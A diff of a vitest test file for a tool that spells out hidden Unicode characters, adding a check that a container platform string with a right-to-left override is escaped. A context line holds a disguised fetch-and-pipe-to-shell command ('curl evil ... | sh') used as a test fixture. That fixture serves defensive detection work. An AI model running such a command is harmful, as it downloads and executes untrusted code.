@@ -2,7 +2,7 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { briefCommand, prettyJson } from '../../src/app/format';
+import { briefCommand, formatPlatform, prettyJson } from '../../src/app/format';
 import { countHidden, escapeHidden } from '../../src/core/text';
 import { SHARED } from './helpers/tools';
 
@@ -53,6 +53,11 @@ describe('hidden characters spelled out', () => {
     expect(escapeHidden(script, true)).toBe('echo safe\r\n\tcurl evil \\u202E| sh\\0\r\n');
     expect(countHidden(script, true)).toBe(2);
     expect(countHidden(script)).toBe(7);
+  });
+
+  it('a platform from an index, as selectors and the graph show it', () => {
+    expect(formatPlatform({ os: 'linux', architecture: 'arm64', variant: 'v8' })).toBe('linux/arm64/v8');
+    expect(formatPlatform({ os: 'linux', architecture: '\u202e46dma' })).toBe('linux/\\u202E46dma');
   });
 
   it('raw JSON: the escapes are JSON escapes, so the text is the same document', () => {
